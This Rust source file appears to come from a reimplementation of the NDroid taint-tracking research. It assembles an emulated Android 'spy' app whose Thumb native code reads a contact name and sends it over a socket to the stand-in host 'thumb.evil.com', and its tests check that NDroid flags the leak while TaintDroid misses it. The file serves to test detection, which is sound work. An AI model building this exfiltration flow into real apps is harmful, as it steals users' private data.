//! An app whose native library is **Thumb** code — exercising the
//! paper's claim that the instruction tracer handles Thumb instructions
//! through the same Table V rules (NDroid "handles 101 ARM and 55 Thumb
//! instructions that affect taint propagation", §V-C).
//!
//! The leak flow is Case 2 (Java source → native sink), compiled to T16
//! encodings: `GetStringUTFChars` → byte-copy loop → `send`.

use crate::builder::{App, AppBuilder};
use ndroid_arm::asm::ThumbAssembler;
use ndroid_arm::thumb::enc;
use ndroid_arm::{Cond, Reg};
use ndroid_dvm::bytecode::DexInsn;
use ndroid_dvm::{InvokeKind, MethodDef, MethodKind};
use ndroid_emu::layout::NATIVE_CODE_BASE;
use ndroid_jni::dvm_addr;
use ndroid_libc::libc_addr;

/// Where the Thumb library text lives (inside the third-party region,
/// separate from the ARM assembler's range).
const THUMB_BASE: u32 = NATIVE_CODE_BASE + 0x0004_0000;

/// Builds the Thumb-native spy app.
pub fn thumb_spy() -> App {
    let mut b = AppBuilder::new(
        "thumb-spy",
        "Case 2 with a Thumb-mode native library (T16 machine code)",
    );
    let c = b.class("Lapp/ThumbSpy;");
    let dest = b.data_cstr("thumb.evil.com");
    let scratch = b.data_buffer(128);

    // void spy(String contact) — Thumb-16 throughout.
    let mut t = ThumbAssembler::new(THUMB_BASE);
    // push {r4, r5, r6, lr}
    t.raw(enc::push(0b0111_0000, true));
    // chars = GetStringUTFChars(contact, 0): r0 already = jstring.
    t.raw(enc::mov_imm(Reg::R1, 0));
    t.call_abs(dvm_addr("GetStringUTFChars"));
    t.raw(enc::mov_hi(Reg::R4, Reg::R0)); // r4 = chars
    // Byte-copy loop into scratch (pure Thumb data movement so the
    // Thumb tracer does the propagation, not the libc model).
    t.ldr_const(Reg::R5, scratch);
    t.raw(enc::mov_imm(Reg::R6, 0)); // index
    let top = t.label();
    t.bind(top).unwrap();
    t.raw(enc::ldr_reg(Reg::R0, Reg::R4, Reg::R6)); // word-wise copy
    t.raw(enc::str_reg(Reg::R0, Reg::R5, Reg::R6));
    t.raw(enc::add_imm8(Reg::R6, 4));
    t.raw(enc::cmp_imm(Reg::R6, 32));
    t.b_cond(Cond::Ne, top);
    // fd = socket()
    t.call_abs(libc_addr("socket"));
    t.raw(enc::mov_hi(Reg::R6, Reg::R0)); // r6 = fd
    // connect(fd, dest)
    t.ldr_const(Reg::R1, dest);
    t.call_abs(libc_addr("connect"));
    // len = strlen(scratch)
    t.raw(enc::mov_hi(Reg::R0, Reg::R5));
    t.call_abs(libc_addr("strlen"));
    t.raw(enc::mov_hi(Reg::R2, Reg::R0)); // len
    // send(fd, scratch, len, 0)
    t.raw(enc::mov_hi(Reg::R0, Reg::R6));
    t.raw(enc::mov_hi(Reg::R1, Reg::R5));
    t.raw(enc::mov_imm(Reg::R3, 0));
    t.call_abs(libc_addr("send"));
    // pop {r4, r5, r6, pc}
    t.raw(enc::pop(0b0111_0000, true));
    let thumb_code = t.assemble().expect("thumb assembly");

    // Register the Thumb method directly (entry | 1 selects Thumb).
    let spy = b.program.add_method(
        c,
        MethodDef::new(
            "spy",
            "VL",
            MethodKind::Native {
                entry: THUMB_BASE | 1,
            },
        ),
    );
    let contact = b
        .program
        .find_method_by_name("Landroid/provider/ContactsProvider;", "queryName")
        .unwrap();
    b.method(
        c,
        MethodDef::new(
            "main",
            "V",
            MethodKind::Bytecode(vec![
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: contact,
                    args: vec![],
                },
                DexInsn::MoveResult { dst: 0 },
                DexInsn::Invoke {
                    kind: InvokeKind::Static,
                    method: spy,
                    args: vec![0],
                },
                DexInsn::ReturnVoid,
            ]),
        )
        .with_registers(1),
    );
    let mut app = b.finish("Lapp/ThumbSpy;", "main").unwrap();
    app.data.push((THUMB_BASE, thumb_code.bytes));
    app.lib_name = "libthumbspy.so".to_string();
    app
}

#[cfg(test)]
mod tests {
    use super::*;
    use ndroid_core::Mode;
    use ndroid_dvm::Taint;

    #[test]
    fn thumb_library_leak_caught_by_ndroid() {
        let sys = thumb_spy().run(Mode::NDroid).unwrap();
        let leaks = sys.leaks();
        assert_eq!(leaks.len(), 1);
        assert!(leaks[0].taint.contains(Taint::CONTACTS));
        assert_eq!(leaks[0].dest, "thumb.evil.com");
        assert!(leaks[0].data.starts_with(b"Vincent"));
    }

    #[test]
    fn thumb_library_missed_by_taintdroid() {
        let sys = thumb_spy().run(Mode::TaintDroid).unwrap();
        assert!(sys.leaks().is_empty());
        assert_eq!(sys.report().network_log.len(), 1);
    }

    #[test]
    fn tracer_processed_thumb_instructions() {
        let sys = thumb_spy().run(Mode::NDroid).unwrap();
        let stats = sys.ndroid_stats().unwrap();
        assert!(
            stats.insns_traced > 20,
            "the copy loop ran under the tracer: {}",
            stats.insns_traced
        );
    }
}
